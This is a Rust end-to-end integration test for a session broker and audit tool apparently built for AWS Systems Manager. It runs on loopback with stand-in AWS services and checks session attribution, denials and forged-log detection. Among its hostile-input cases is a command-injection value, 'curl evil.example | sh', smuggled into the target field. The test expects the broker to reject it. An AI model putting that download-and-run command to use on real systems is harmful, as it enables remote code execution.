//! The broker end to end, on loopback: `sessiontrail-connect` signs its request with an
//! Identity Center user's credentials; the stand-in function URL
//! (crates/test-support/standin/aws_standin.py) verifies the signature and sends the
//! function URL event to cargo-lambda's Runtime API emulator, where the real
//! `sessiontrail-broker` binary runs; the broker assumes the session-starter role and
//! starts the session on the stand-in's STS and SSM (every request checked against
//! botocore's models); a stand-in `session-manager-plugin` receives the session and, as
//! the plugin does when the user leaves, terminates it with the user's own credentials.
//! The broker's stdout, filtered as the broker stack's subscription filter does
//! (`{ $.v = 1 }`), is its delivered log; the stand-in's CloudTrail is the trail.
//! `sessiontrail correlate` over both then says who held every session.
//!
//! Skips (saying so) where cargo-lambda or botocore is missing, except under CI.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::Value;
use sessiontrail_test_support::standin::{self, AwsStandin, Caller, world};
use sessiontrail_test_support::{Prerequisite, skip, workspace_root};

const PLUGIN_VERSION: &str = "1.2.707.0";

/// Requests a client would never send, signed with botocore's SigV4 signer: wrong
/// method, not JSON, too large, an unknown field, shell in the target, a control
/// character in the reason, a region of another partition. One status per line.
const HOSTILE: &str = r#"
import json, os, sys, urllib.error, urllib.request
import botocore.auth, botocore.awsrequest, botocore.credentials
url = sys.argv[1]
key, secret, token = json.loads(os.environ["ALICE"])
credentials = botocore.credentials.Credentials(key, secret, token)
ok = {"target": "i-0123456789abcdef0", "region": "eu-west-1"}
cases = [
    ("GET", b""),
    ("POST", b"not json"),
    ("POST", json.dumps(dict(ok, reason="x" * 400000)).encode()),
    ("POST", json.dumps(dict(ok, documentName="SSM-SessionManagerRunShell")).encode()),
    ("POST", json.dumps(dict(ok, target="i-0123456789abcdef0; curl evil.example | sh")).encode()),
    ("POST", json.dumps(dict(ok, reason="INC-1\u0000\u001b[2J")).encode()),
    ("POST", json.dumps(dict(ok, region="cn-north-1")).encode()),
]
for method, body in cases:
    request = botocore.awsrequest.AWSRequest(
        method=method, url=url, data=body or None, headers={"content-type": "application/json"})
    botocore.auth.SigV4Auth(credentials, "lambda", "eu-west-1").add_auth(request)
    prepared = request.prepare()
    sent = urllib.request.Request(
        prepared.url, data=prepared.body or None, method=method, headers=dict(prepared.headers))
    try:
        status = urllib.request.urlopen(sent, timeout=60).status
    except urllib.error.HTTPError as error:
        status = error.code
    print(status)
"#;
const HOSTILE_CASES: usize = 7;

struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .unwrap()
        .port()
}

/// A binary of another workspace package, built beside this one by
/// `cargo test --workspace`.
fn sibling_binary(name: &str) -> PathBuf {
    let path = Path::new(env!("CARGO_BIN_EXE_sessiontrail-broker")).with_file_name(name);
    assert!(
        path.is_file(),
        "{} is missing: run the tests with `cargo test --workspace`, which builds it (the sessiontrail and sessiontrail-connect packages have integration tests, so their binaries are built)",
        path.display()
    );
    path
}

fn cargo_lambda_installed() -> bool {
    Command::new("cargo")
        .args(["lambda", "--version"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// The stand-in plugin: answers `--version`; otherwise records its argv and the
/// session it was handed (from the environment variable its first argument names),
/// then terminates the session with the caller's own credentials, as the plugin does.
fn write_plugin(bin: &Path, records: &Path) {
    let script = format!(
        r#"#!/usr/bin/env python3
import json, os, sys, time
if sys.argv[1:] == ["--version"]:
    print("{PLUGIN_VERSION}")
    sys.exit(0)
started = time.time_ns()
name = sys.argv[1]
response = json.loads(os.environ[name])
record = {{"argv": sys.argv[1:], "response": response, "started_ns": started,
          "env_names": sorted(k for k in os.environ if k.startswith("AWS_SSM_START_SESSION_RESPONSE"))}}
import boto3
ssm = boto3.client("ssm", region_name=sys.argv[2])
ssm.terminate_session(SessionId=response["SessionId"])
with open(os.path.join("{records}", response["SessionId"] + ".json"), "w") as f:
    json.dump(record, f)
"#,
        records = records.display()
    );
    let path = bin.join("session-manager-plugin");
    std::fs::write(&path, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

struct Broker {
    _emulator: Killed,
    _function: Killed,
    /// Every line the function printed on stdout, as CloudWatch Logs receives them.
    stdout: Arc<Mutex<Vec<String>>>,
    invoke_url: String,
}

fn start_broker(runtime_port: u16, standin_endpoint: &str, policy: &Path) -> Broker {
    let emulator = Killed(
        Command::new("cargo")
            .current_dir(workspace_root())
            .args([
                "lambda",
                "watch",
                "--only-lambda-apis",
                "-A",
                "127.0.0.1",
                "-P",
            ])
            .arg(runtime_port.to_string())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("cargo lambda watch starts"),
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    while TcpStream::connect(("127.0.0.1", runtime_port)).is_err() {
        assert!(Instant::now() < deadline, "the Runtime API did not listen");
        std::thread::sleep(Duration::from_millis(100));
    }
    let broker = standin::broker_caller();
    let mut function = Command::new(env!("CARGO_BIN_EXE_sessiontrail-broker"))
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env(
            "AWS_LAMBDA_RUNTIME_API",
            format!("http://127.0.0.1:{runtime_port}/.rt"),
        )
        .env("AWS_LAMBDA_FUNCTION_NAME", "_")
        .env("AWS_LAMBDA_FUNCTION_VERSION", "1")
        .env("AWS_LAMBDA_FUNCTION_MEMORY_SIZE", "256")
        .env("AWS_ACCESS_KEY_ID", &broker.access_key_id)
        .env("AWS_SECRET_ACCESS_KEY", &broker.secret_access_key)
        .env(
            "AWS_SESSION_TOKEN",
            broker.session_token.as_deref().unwrap(),
        )
        .env("AWS_REGION", world::REGION)
        .env("AWS_ENDPOINT_URL", standin_endpoint)
        .env("AWS_CONFIG_FILE", "/dev/null")
        .env("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("SESSIONTRAIL_POLICY", policy)
        .env("SESSIONTRAIL_BROKER_STARTER_ROLE", world::STARTER_ROLE_NAME)
        .env("SESSIONTRAIL_BROKER_ORGANIZATION_ID", world::ORG)
        // The emulator gives no function ARN to read the partition from.
        .env("SESSIONTRAIL_BROKER_PARTITION", "aws")
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("the broker starts");
    let stdout = Arc::new(Mutex::new(Vec::new()));
    let lines = Arc::clone(&stdout);
    let pipe = function.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in BufReader::new(pipe).lines().map_while(Result::ok) {
            lines.lock().unwrap().push(line);
        }
    });
    Broker {
        _emulator: emulator,
        _function: Killed(function),
        stdout,
        invoke_url: format!("http://127.0.0.1:{runtime_port}/2015-03-31/functions/_/invocations"),
    }
}

/// `sessiontrail-connect` as `caller`, bounded.
fn connect(
    scratch: &Path,
    url: &str,
    endpoint: &str,
    caller: &Caller,
    target: &str,
    reason: &str,
) -> Output {
    let mut command = Command::new(sibling_binary("sessiontrail-connect"));
    command
        .env_clear()
        .env(
            "PATH",
            format!(
                "{}:{}",
                scratch.join("bin").display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .env("HOME", scratch.join("home"))
        .env("AWS_CONFIG_FILE", "/dev/null")
        .env("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("AWS_REGION", world::REGION)
        // For the stand-in plugin's TerminateSession (boto3 reads it).
        .env("AWS_ENDPOINT_URL", endpoint)
        .env("SESSIONTRAIL_BROKER_URL", url)
        .env("SESSIONTRAIL_BROKER_REGION", world::REGION)
        .env("AWS_ACCESS_KEY_ID", &caller.access_key_id)
        .env("AWS_SECRET_ACCESS_KEY", &caller.secret_access_key)
        .args([
            "--target",
            target,
            "--region",
            world::REGION,
            "--reason",
            reason,
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(token) = &caller.session_token {
        command.env("AWS_SESSION_TOKEN", token);
    }
    let mut child = command.spawn().expect("sessiontrail-connect runs");
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(120) {
            let _ = child.kill();
            panic!("sessiontrail-connect did not finish within 120 s");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    child.wait_with_output().unwrap()
}

/// The broker's log as the broker stack delivers it: the lines the subscription filter
/// `{ $.v = 1 }` passes, gzipped under `broker-logs/YYYY/MM/DD/`.
fn deliver_broker_log(lines: &[String], dir: &Path, name: &str) -> Vec<Value> {
    let records: Vec<Value> = lines
        .iter()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["v"] == 1)
        .collect();
    let day = chrono_day();
    let folder = dir.join(day);
    std::fs::create_dir_all(&folder).unwrap();
    let file = std::fs::File::create(folder.join(format!("{name}.jsonl.gz"))).unwrap();
    let mut gz = flate2::write::GzEncoder::new(file, flate2::Compression::default());
    for record in &records {
        writeln!(gz, "{record}").unwrap();
    }
    gz.finish().unwrap();
    records
}

fn chrono_day() -> String {
    let out = Command::new("date")
        .args(["-u", "+%Y/%m/%d"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn sessiontrail(args: &[&str]) -> Output {
    Command::new(sibling_binary("sessiontrail"))
        .args(args)
        .output()
        .expect("sessiontrail runs")
}

fn query(data: &Path, sql: &str) -> Vec<Value> {
    let out = sessiontrail(&[
        "query",
        "--data",
        data.to_str().unwrap(),
        "--format",
        "jsonl",
        sql,
    ]);
    assert!(
        out.status.success(),
        "query failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn correlate(policy: &Path, trail: &Path, broker_log: &Path, out: &Path) {
    let run = sessiontrail(&[
        "correlate",
        "--policy",
        policy.to_str().unwrap(),
        "--cloudtrail",
        trail.to_str().unwrap(),
        "--broker-log",
        broker_log.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(
        run.status.success(),
        "correlate: {}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
}

fn run_as_of(set: &str) -> &'static str {
    world::PERMISSION_SETS
        .iter()
        .find(|(s, _, _)| *s == set)
        .map(|(_, _, u)| *u)
        .unwrap()
}

#[test]
fn connects_through_the_broker_are_attributed_in_cloudtrail_and_by_the_audit() {
    let test = "connects_through_the_broker_are_attributed_in_cloudtrail_and_by_the_audit";
    if !cargo_lambda_installed() {
        skip(
            test,
            Prerequisite::CargoLambda,
            "cargo-lambda is not installed",
        );
        return;
    }
    let scratch = tempfile::tempdir().unwrap();
    let root = scratch.path();
    for dir in ["bin", "home", "plugin-records", "cloudtrail"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    write_plugin(&root.join("bin"), &root.join("plugin-records"));
    let policy = workspace_root().join("deploy/broker/sessiontrail.example.toml");
    let runtime_port = free_port();
    let invoke_url = format!("http://127.0.0.1:{runtime_port}/2015-03-31/functions/_/invocations");
    let Some(aws) = AwsStandin::start(
        test,
        &standin::world_config(&root.join("cloudtrail"), Some(&invoke_url)),
        root,
    ) else {
        return;
    };
    let broker = start_broker(runtime_port, &aws.endpoint, &policy);
    assert_eq!(broker.invoke_url, invoke_url);
    let url = format!("{}/", aws.endpoint);

    // N connects by users of three permission sets, on two instances.
    let mut connects = Vec::new();
    for round in 0..3 {
        for (i, (name, set)) in world::USERS.iter().enumerate() {
            let target = world::INSTANCES[(i + round) % 2];
            let out = connect(
                root,
                &url,
                &aws.endpoint,
                &standin::user(name),
                target,
                &format!("CHG-{round}{i}: routine"),
            );
            assert!(
                out.status.success(),
                "{name}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            connects.push((*name, *set, target));
        }
    }
    let n = connects.len();

    // The plugin got each session by environment variable, never in argv.
    let mut handed = Vec::new();
    let mut tokens = Vec::new();
    for entry in std::fs::read_dir(root.join("plugin-records")).unwrap() {
        let record: Value =
            serde_json::from_slice(&std::fs::read(entry.unwrap().path()).unwrap()).unwrap();
        let argv = record["argv"].as_array().unwrap();
        assert_eq!(argv.len(), 6, "{record}");
        assert!(
            argv[0]
                .as_str()
                .unwrap()
                .starts_with("AWS_SSM_START_SESSION_RESPONSE"),
            "{record}"
        );
        assert_eq!(argv[2], "StartSession");
        let token = record["response"]["TokenValue"].as_str().unwrap();
        assert!(token.len() > 100);
        assert!(!argv.iter().any(|a| a.as_str().unwrap().contains(token)));
        handed.push(
            record["response"]["SessionId"]
                .as_str()
                .unwrap()
                .to_string(),
        );
        tokens.push(token.to_string());
    }
    assert_eq!(handed.len(), n);

    // Outside Identity Center: denied by the broker, said to the user, logged.
    let mallory = connect(
        root,
        &url,
        &aws.endpoint,
        &standin::iam_user(),
        world::INSTANCES[0],
        "just looking",
    );
    assert!(!mallory.status.success());
    let said = String::from_utf8_lossy(&mallory.stderr);
    assert!(said.contains("IAM Identity Center"), "{said}");

    // Hostile requests, signed by botocore's own SigV4 signer as alice (so the
    // stand-in's signature check is also checked against botocore's): each a 4xx and a
    // denied record, none a session.
    let alice = standin::user("alice@example.com");
    let hostile = Command::new("python3")
        .args(["-c", HOSTILE, &url])
        .env(
            "ALICE",
            serde_json::json!([
                alice.access_key_id,
                alice.secret_access_key,
                alice.session_token
            ])
            .to_string(),
        )
        .output()
        .unwrap();
    assert!(
        hostile.status.success(),
        "{}",
        String::from_utf8_lossy(&hostile.stderr)
    );
    let statuses: Vec<u16> = String::from_utf8(hostile.stdout)
        .unwrap()
        .split_whitespace()
        .map(|s| s.parse().unwrap())
        .collect();
    assert_eq!(statuses.len(), HOSTILE_CASES);
    assert!(
        statuses.iter().all(|s| (400..500).contains(s)),
        "{statuses:?}"
    );

    let stats = aws.stats();
    assert_eq!(
        stats["violations"],
        serde_json::json!([]),
        "requests that fail botocore's models: {stats}"
    );
    assert_eq!(stats["counts"]["StartSession"], n as u64, "{stats}");
    assert_eq!(stats["counts"]["TerminateSession"], n as u64, "{stats}");
    // One AssumeRole per user: the credentials cache held across their connects.
    assert_eq!(stats["counts"]["sts"], world::USERS.len() as u64, "{stats}");

    aws.flush();
    let lines = broker.stdout.lock().unwrap().clone();
    let broker_log = root.join("broker-logs");
    let records = deliver_broker_log(&lines, &broker_log, "sessiontrail-broker-1");
    assert_eq!(
        records.len(),
        n + 1 + HOSTILE_CASES,
        "one record per request: {lines:#?}"
    );
    assert_eq!(
        records.iter().filter(|r| r["outcome"] == "denied").count(),
        1 + HOSTILE_CASES
    );
    // The broker never logs a token.
    assert!(
        !lines
            .iter()
            .any(|l| tokens.iter().any(|t| l.contains(t.as_str())))
    );

    // The audit: N attributed sessions, each with its user's Linux user; no findings.
    let clean = root.join("dataset");
    correlate(&policy, &root.join("cloudtrail"), &broker_log, &clean);
    let sessions = query(
        &clean,
        "SELECT session_id, status, original_user, permission_set, run_as, document_name, \
         in_band_identity, end_time IS NOT NULL AS ended FROM sessions ORDER BY session_id",
    );
    let started: Vec<&Value> = sessions
        .iter()
        .filter(|s| s["status"] != "denied")
        .collect();
    assert_eq!(started.len(), n, "{sessions:#?}");
    for session in &started {
        let user = session["original_user"].as_str().unwrap();
        let (_, set, _) = connects.iter().find(|(u, _, _)| *u == user).unwrap();
        assert_eq!(session["status"], "attributed", "{session}");
        assert_eq!(session["permission_set"], *set, "{session}");
        assert_eq!(session["run_as"], run_as_of(set), "{session}");
        assert_eq!(session["in_band_identity"], user, "{session}");
        assert_eq!(session["ended"], true, "{session}");
        assert!(handed.contains(&session["session_id"].as_str().unwrap().to_string()));
    }
    let denied: Vec<&Value> = sessions
        .iter()
        .filter(|s| s["status"] == "denied")
        .collect();
    assert_eq!(denied.len(), 1 + HOSTILE_CASES, "{sessions:#?}");
    let findings = query(&clean, "SELECT rule, session_id FROM findings");
    assert_eq!(findings, Vec::<Value>::new(), "a clean run has no findings");

    // A direct StartSession, with a permission set's own document (its policy allows
    // it): direct_session.
    let bob = standin::user("bob@example.com");
    let direct = Command::new("python3")
        .args([
            "-c",
            "import boto3; print(boto3.client('ssm').start_session(Target='i-0123456789abcdef0', \
             DocumentName='SSMRunAs-Developer-Session')['SessionId'])",
        ])
        .env("AWS_ENDPOINT_URL", &aws.endpoint)
        .env("AWS_DEFAULT_REGION", world::REGION)
        .env("AWS_CONFIG_FILE", "/dev/null")
        .env("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
        .env("AWS_ACCESS_KEY_ID", &bob.access_key_id)
        .env("AWS_SECRET_ACCESS_KEY", &bob.secret_access_key)
        .env("AWS_SESSION_TOKEN", bob.session_token.as_deref().unwrap())
        .output()
        .unwrap();
    assert!(
        direct.status.success(),
        "{}",
        String::from_utf8_lossy(&direct.stderr)
    );
    let direct_id = String::from_utf8(direct.stdout).unwrap().trim().to_string();
    aws.flush();

    // A broker log whose record of one of dave's sessions names bob instead (same
    // permission set, so no document or Linux user differs): in_band_identity_mismatch.
    let swapped_id = started
        .iter()
        .find(|s| s["original_user"] == "dave@example.com")
        .map(|s| s["session_id"].as_str().unwrap().to_string())
        .unwrap();
    let forged: Vec<String> = lines
        .iter()
        .map(|line| {
            if line.contains(&swapped_id) {
                line.replace("/dave@example.com", "/bob@example.com")
            } else {
                line.clone()
            }
        })
        .collect();
    assert_ne!(forged, lines);
    let forged_log = root.join("forged-broker-logs");
    deliver_broker_log(&forged, &forged_log, "sessiontrail-broker-1");
    let audited = root.join("dataset-forged");
    correlate(&policy, &root.join("cloudtrail"), &forged_log, &audited);
    let findings = query(
        &audited,
        "SELECT rule, session_id FROM findings ORDER BY rule, session_id",
    );
    // The forged record is contradicted twice: CloudTrail's sourceIdentity names dave,
    // and dave (not bob, whom the record names) terminated the session.
    let expected: Vec<Value> = vec![
        serde_json::json!({"rule": "direct_session", "session_id": direct_id}),
        serde_json::json!({"rule": "foreign_session_control", "session_id": swapped_id}),
        serde_json::json!({"rule": "in_band_identity_mismatch", "session_id": swapped_id}),
    ];
    assert_eq!(findings, expected);
}
